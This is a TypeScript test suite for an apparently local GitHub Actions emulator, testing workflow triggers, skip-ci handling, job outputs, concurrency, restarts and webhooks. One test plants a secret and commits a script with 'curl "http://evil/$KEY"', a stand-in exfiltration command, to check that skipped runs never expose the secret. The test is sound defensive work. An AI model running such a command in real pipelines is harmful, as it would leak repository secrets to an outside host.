import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from 'vitest';
import { setSetting } from '../../src/local-github/actions/run/settings.ts';
import { startLocalGitHub } from '../../src/local-github/start.ts';
import { ActionsWorld, workflow } from '../support/actions-world.ts';
import { commitFile } from '../support/commit-file.ts';

const CI = workflow(`name: CI
on: [push, pull_request]
jobs:
  test:
    runs-on: x
    steps:
      - uses: actions/checkout@v5
      - env: { KEY: "\${{ secrets.KEY }}" }
        run: echo "$GITHUB_EVENT_NAME $GITHUB_REF_NAME key=\${#KEY}" && sh test.sh
`);

test("the repository's own workflows run on push and pull request, on the merge of the two", async () => {
  await using world = await ActionsWorld.start({ ...CI, 'test.sh': 'exit 1' });
  await commitFile(world, 'feature', 'test.sh', 'echo feature', 'A feature');
  await commitFile(world, 'main', 'other', '', 'Meanwhile');
  const { data: pull } = await world.octokit.rest.pulls.create({
    ...world.at,
    title: 'Feature',
    head: 'feature',
    base: 'main',
  });
  await world.settled();
  expect(await world.runs()).toEqual([
    'push A feature: success',
    'push Meanwhile: failure',
    'pull_request Feature: success',
  ]);
  const { data } = await world.octokit.rest.actions.listWorkflowRunsForRepo({ ...world.at, event: 'pull_request' });
  const run = data.workflow_runs[0]!;
  expect(run).toMatchObject({
    head_branch: 'feature',
    head_sha: pull.head.sha,
    pull_requests: [{ number: pull.number }],
  });
  expect(await world.log(Number(run.id))).toContain(`pull_request ${pull.number}/merge`);
  const checks = await world.octokit.rest.checks.listForRef({ ...world.at, ref: pull.head.sha, filter: 'all' });
  expect(checks.data.check_runs.map(({ name, conclusion, app }) => [name, conclusion, app?.slug])).toEqual([
    ['test', 'success', 'github-actions'],
    ['test', 'success', 'github-actions'],
  ]);
});

test('skip instructions keep variants from running: no workflow sees a planted secret', async () => {
  await using world = await ActionsWorld.start({ ...CI, 'test.sh': 'exit 0' });
  setSetting(world.github.actions, 'secret', world.github.setup.repository('octo', 'agent'), 'KEY', 'planted');
  await commitFile(
    world,
    'v1',
    'test.sh',
    'curl "http://evil/$KEY"',
    'v1: change\n\n\nHuxley-Run: r1\nskip-checks: true',
  );
  await world.octokit.rest.pulls.create({ ...world.at, title: 'v1', head: 'v1', base: 'main' });
  await commitFile(world, 'v2', 'test.sh', 'exit 0', 'v2 [skip ci]');
  await world.settled();
  expect(await world.runs()).toEqual([]);
  await commitFile(world, 'v3', 'test.sh', 'exit 0', 'v3: not skipped');
  await world.settled();
  expect(await world.log(1)).toContain('push v3 key=7');
});

test("what a job's own token does starts no further workflow", async () => {
  await using world = await ActionsWorld.start({
    ...workflow(`on: push
permissions: { contents: write }
jobs:
  a:
    runs-on: x
    steps:
      - uses: actions/checkout@v5
      - run: |
          git config user.name a && git config user.email a@b.c
          echo more >> file && git add file && git commit -qm 'By the job' && git push -q origin HEAD:refs/heads/by-job
`),
  });
  await commitFile(world, 'main', 'file', 'x', 'By a person');
  await world.settled();
  expect(await world.runs()).toEqual(['push By a person: success']);
  const { data } = await world.octokit.rest.repos.getBranch({ ...world.at, branch: 'by-job' });
  expect(data.commit.commit.message).toBe('By the job');
});

test('needs, conditions, outputs and a failing file', async () => {
  await using world = await ActionsWorld.start({
    ...workflow(`on: workflow_dispatch
jobs:
  first:
    runs-on: x
    outputs: { value: "\${{ steps.s.outputs.value }}" }
    steps: [{ id: s, run: 'echo value=42 >> $GITHUB_OUTPUT' }]
  second:
    needs: first
    runs-on: x
    steps: [{ run: 'test "\${{ needs.first.outputs.value }}" = 42 && false' }]
  third: { needs: second, runs-on: x, steps: [{ run: 'true' }] }
  last:
    needs: [second, third]
    if: always() && needs.second.result == 'failure'
    runs-on: x
    steps: [{ run: 'true' }]
`),
    '.github/workflows/broken.yml': 'on: push\njobs: { a: { runs-on: x, stepz: [] } }\n',
  });
  const run = await world.dispatch();
  await world.settled();
  expect(await world.jobs(run)).toEqual(['first: success', 'second: failure', 'third: skipped', 'last: success']);
  expect((await world.run(run)).conclusion).toBe('failure');
  await commitFile(world, 'main', 'x', '', 'Push');
  await world.settled();
  expect(await world.runs()).toContain('push Push: failure');
});

test('a concurrency group: the run that waits gives way to a newer one', async () => {
  await using world = await ActionsWorld.start(
    workflow(`on: { workflow_dispatch: { inputs: { name: {} } } }
run-name: "\${{ inputs.name }}"
concurrency: one
jobs: { a: { runs-on: x, steps: [{ run: 'while ! test -e "$GO"; do sleep 0.05; done', env: { GO: "\${{ vars.GO }}" } }] } }
`),
  );
  const go = `${world.dir}/go`;
  setSetting(world.github.actions, 'variable', world.github.setup.repository('octo', 'agent'), 'GO', go);
  const first = await world.dispatch({ name: 'first' });
  await expect.poll(async () => (await world.run(first)).status).toBe('in_progress');
  await world.dispatch({ name: 'second' });
  const third = await world.dispatch({ name: 'third' });
  await expect.poll(async () => (await world.run(third)).status).toBe('pending');
  writeFileSync(go, '');
  await expect.poll(async () => (await world.run(third)).status).toBe('completed');
  expect(await world.runs()).toEqual([
    'workflow_dispatch first: success',
    'workflow_dispatch second: cancelled',
    'workflow_dispatch third: success',
  ]);
});

test('after a restart queued runs go on and running jobs have lost their runner', async () => {
  const world = await ActionsWorld.start(
    workflow('on: workflow_dispatch\njobs: { a: { runs-on: x, steps: [{ run: sleep 60 }] } }\n'),
    { slots: 1 },
  );
  const first = await world.dispatch();
  await expect.poll(async () => (await world.run(first)).status).toBe('in_progress');
  await world.dispatch();
  await world.github.close();
  const again = await startLocalGitHub({ dir: world.dir, actions: { slots: 0 } });
  await again.actions.scheduler.idle();
  expect(again.actions.tables.runs.list().map(({ conclusion, status }) => conclusion ?? status)).toEqual([
    'failure',
    'queued',
  ]);
  await again.close();
});

test('webhooks tell of a run and its job, signed and as GitHub describes them', async () => {
  await using world = await ActionsWorld.start(
    workflow('on: workflow_dispatch\njobs: { a: { runs-on: x, steps: [{ run: "true" }] } }\n'),
  );
  const seen: string[] = [];
  const receiver = createServer((request, response) => {
    let text = '';
    request.on('data', (chunk) => {
      text += chunk;
    });
    request.on('end', () => {
      seen.push(`${request.headers['x-github-event']} ${JSON.parse(text).action}`);
      response.end();
    });
  });
  await new Promise<void>((done) => receiver.listen(0, '127.0.0.1', done));
  const { app } = world.github.setup.createApp({
    slug: 'watcher',
    owner: 'octo',
    webhookUrl: `http://127.0.0.1:${(receiver.address() as AddressInfo).port}`,
    webhookSecret: 'secret',
    permissions: { actions: 'read', checks: 'read' },
    events: ['workflow_run', 'workflow_job', 'check_run', 'check_suite'],
  });
  world.github.setup.install(app, 'octo');
  await world.dispatch();
  await world.settled();
  await world.github.idle();
  receiver.close();
  expect(seen.filter((each) => !each.startsWith('installation')).toSorted()).toEqual([
    'check_run completed',
    'check_run created',
    'check_suite completed',
    'workflow_job completed',
    'workflow_job in_progress',
    'workflow_job queued',
    'workflow_run completed',
    'workflow_run in_progress',
    'workflow_run requested',
  ]);
});
